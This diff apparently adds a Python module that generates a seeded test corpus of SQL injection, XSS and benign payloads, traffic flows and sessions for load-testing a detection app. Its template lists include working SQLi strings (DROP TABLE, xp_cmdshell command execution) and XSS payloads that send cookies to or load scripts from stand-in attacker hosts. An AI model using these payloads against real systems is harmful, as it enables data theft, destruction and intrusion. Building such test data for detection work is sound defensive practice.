@@ -0,0 +1,177 @@
+"""
+Request corpus for the load tests: payloads (SQLi, XSS, benign), traffic
+flows and behaviour sessions.
+
+Everything is synthetic by default and seeded, so two runs replay the same
+requests. The training CSVs can be used instead when they are available:
+
+- payloads: ``payload_dataset.csv`` / ``XSS_dataset.csv`` (``Sentence``, ``Label``)
+- flows: the CTU-13 CSVs (``Flow Duration``, ``Flow Byts/s``, ...)
+- sessions: ``Dataa.csv`` (``sessn_id``, ``Event``, ``page_name``, ``browser_type``)
+"""
+import csv
+import random
+from collections import OrderedDict
+from typing import Dict, List, Optional
+
+SQLI_TEMPLATES = [
+    "' OR '1'='1",
+    "' OR 1=1 --",
+    "admin' --",
+    "1; DROP TABLE {table}; --",
+    "' UNION SELECT {cols} FROM {table} --",
+    "1' AND SLEEP({n}) --",
+    "' OR EXISTS(SELECT * FROM {table} WHERE id={n}) --",
+    "{n} AND 1=CONVERT(int,(SELECT TOP 1 name FROM {table}))",
+    "'; EXEC xp_cmdshell('{cmd}'); --",
+    "1' ORDER BY {n} --",
+]
+XSS_TEMPLATES = [
+    "<script>alert({n})</script>",
+    "<img src=x onerror=alert('{word}')>",
+    "<svg/onload=alert({n})>",
+    "<a href=\"javascript:alert(document.cookie)\">{word}</a>",
+    "<body onload=fetch('//{host}/?c='+document.cookie)>",
+    "\"><script src=//{host}/x.js></script>",
+    "<iframe src=\"javascript:alert({n})\"></iframe>",
+    "<div style=\"background:url(javascript:alert({n}))\">{word}</div>",
+    "%3Cscript%3Ealert({n})%3C%2Fscript%3E",
+    "<input autofocus onfocus=alert('{word}')>",
+]
+BENIGN_TEMPLATES = [
+    "{word} {word2}",
+    "search?q={word}+{word2}&page={n}",
+    "user{n}@example.com",
+    "The {word} was delivered on {n} March",
+    "/products/{word}/{n}?sort=price",
+    "{{\"id\": {n}, \"name\": \"{word}\"}}",
+    "Hello, I would like to order {n} {word}s",
+    "{word}-{word2}-{n}",
+]
+WORDS = ["apple", "order", "invoice", "profile", "report", "search", "basket", "account", "shipping", "review",
+         "update", "login", "cart", "payment", "history", "settings", "support", "ticket", "price", "item"]
+TABLES = ["users", "accounts", "orders", "sessions", "admin", "products"]
+HOSTS = ["evil.example", "attacker.test", "203.0.113.7", "cdn.bad.test"]
+COMMANDS = ["whoami", "dir", "net user", "ipconfig"]
+
+EVENTS = ["Click", "Scroll", "View", "Purchase", "Search", "AddToCart", "Login", "Logout"]
+PAGES = ["Home Page", "Product Page", "Cart", "Checkout", "Search Results", "Account"]
+BROWSERS = ["Chrome", "Firefox", "Safari", "Edge", "Chrome Mobile", "Android Browser"]
+
+USER_AGENTS = [
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15",
+    "curl/8.4.0",
+    "python-requests/2.31.0",
+    "sqlmap/1.7.12#stable (https://sqlmap.org)",
+]
+
+# CTU-13 column for each TrafficFlow field, in the order the app expects.
+FLOW_COLUMNS = OrderedDict([
+    ("flow_duration", "Flow Duration"),
+    ("flow_byts_s", "Flow Byts/s"),
+    ("flow_pkts_s", "Flow Pkts/s"),
+    ("pkt_len_mean", "Pkt Len Mean"),
+    ("pkt_len_std", "Pkt Len Std"),
+    ("fwd_pkts_s", "Fwd Pkts/s"),
+    ("bwd_pkts_s", "Bwd Pkts/s"),
+    ("flow_iat_mean", "Flow IAT Mean"),
+])
+# Rough medians of the CTU-13 features; synthetic flows are log-normal around them.
+FLOW_MEDIANS = [2.0e5, 1.5e3, 40.0, 80.0, 90.0, 20.0, 20.0, 5.0e4]
+
+
+def _fill(template: str, rng: random.Random) -> str:
+    return template.format(
+        n=rng.randint(1, 999), word=rng.choice(WORDS), word2=rng.choice(WORDS), table=rng.choice(TABLES),
+        cols=",".join(["NULL"] * rng.randint(1, 6)), host=rng.choice(HOSTS), cmd=rng.choice(COMMANDS),
+    )
+
+
+def synthetic_payloads(n: int, rng: random.Random, attack_ratio: float = 0.5) -> List[Dict]:
+    """Payloads labelled ``sqli``, ``xss`` or ``benign``; attacks split evenly between SQLi and XSS."""
+    payloads = []
+    for _ in range(n):
+        r = rng.random()
+        if r < attack_ratio / 2:
+            kind, templates = "sqli", SQLI_TEMPLATES
+        elif r < attack_ratio:
+            kind, templates = "xss", XSS_TEMPLATES
+        else:
+            kind, templates = "benign", BENIGN_TEMPLATES
+        payloads.append({"payload": _fill(rng.choice(templates), rng), "kind": kind})
+    return payloads
+
+
+def synthetic_flows(n: int, rng: random.Random) -> List[Dict]:
+    return [{name: round(rng.lognormvariate(0.0, 1.2) * median, 3) for name, median in zip(FLOW_COLUMNS, FLOW_MEDIANS)}
+            for _ in range(n)]
+
+
+def synthetic_sessions(n: int, rng: random.Random, max_events: int = 30) -> List[Dict]:
+    sessions = []
+    for i in range(n):
+        events = [{"Event": rng.choice(EVENTS), "page_name": rng.choice(PAGES), "browser_type": rng.choice(BROWSERS)}
+                  for _ in range(rng.randint(1, max_events))]
+        sessions.append({"sessn_id": f"s{i}", "events": events})
+    return sessions
+
+
+def load_payload_csv(path: str) -> List[Dict]:
+    """Reads ``Sentence``/``Label`` rows. Label 1 counts as an attack; its kind is guessed from the text."""
+    payloads = []
+    with open(path, "r", encoding="utf-8", errors="replace", newline="") as f:
+        for row in csv.DictReader(f):
+            text = (row.get("Sentence") or "").strip()
+            if not text:
+                continue
+            attack = (row.get("Label") or "0").strip().rstrip(",") == "1"
+            kind = ("xss" if "<" in text or "script" in text.lower() else "sqli") if attack else "benign"
+            payloads.append({"payload": text, "kind": kind})
+    return payloads
+
+
+def load_flow_csv(path: str) -> List[Dict]:
+    flows = []
+    with open(path, "r", encoding="utf-8", errors="replace", newline="") as f:
+        for row in csv.DictReader(f):
+            row = {k.strip(): v for k, v in row.items() if k}
+            try:
+                flow = {name: float(row[column]) for name, column in FLOW_COLUMNS.items()}
+            except (KeyError, TypeError, ValueError):
+                continue
+            if all(abs(v) != float("inf") and v == v for v in flow.values()):
+                flows.append(flow)
+    return flows
+
+
+def load_session_csv(path: str) -> List[Dict]:
+    sessions: "OrderedDict[str, List[Dict]]" = OrderedDict()
+    with open(path, "r", encoding="utf-8", errors="replace", newline="") as f:
+        for row in csv.DictReader(f):
+            sid = row.get("sessn_id")
+            if not sid:
+                continue
+            sessions.setdefault(sid, []).append({"Event": row.get("Event", ""), "page_name": row.get("page_name", ""),
+                                                 "browser_type": row.get("browser_type", "")})
+    return [{"sessn_id": sid, "events": events} for sid, events in sessions.items()]
+
+
+def build_corpus(size: int = 2000, seed: int = 0, payload_csv: Optional[str] = None, flow_csv: Optional[str] = None,
+                 session_csv: Optional[str] = None) -> Dict[str, List]:
+    """``size`` payloads, flows and sessions, plus one client IP and user agent per payload.
+
+    CSV inputs are sampled down to ``size`` rows; parts without a CSV are synthetic.
+    """
+    rng = random.Random(seed)
+
+    def sample(rows: List) -> List:
+        return rng.sample(rows, size) if len(rows) > size else rows
+
+    payloads = sample(load_payload_csv(payload_csv)) if payload_csv else synthetic_payloads(size, rng)
+    flows = sample(load_flow_csv(flow_csv)) if flow_csv else synthetic_flows(size, rng)
+    sessions = sample(load_session_csv(session_csv)) if session_csv else synthetic_sessions(size, rng)
+    # A few hundred distinct clients, so per-IP caches see realistic reuse.
+    ips = [f"198.51.{rng.randint(0, 3)}.{rng.randint(1, 254)}" for _ in range(len(payloads))]
+    agents = [rng.choice(USER_AGENTS) for _ in range(len(payloads))]
+    return {"payloads": payloads, "flows": flows, "sessions": sessions, "ips": ips, "user_agents": agents}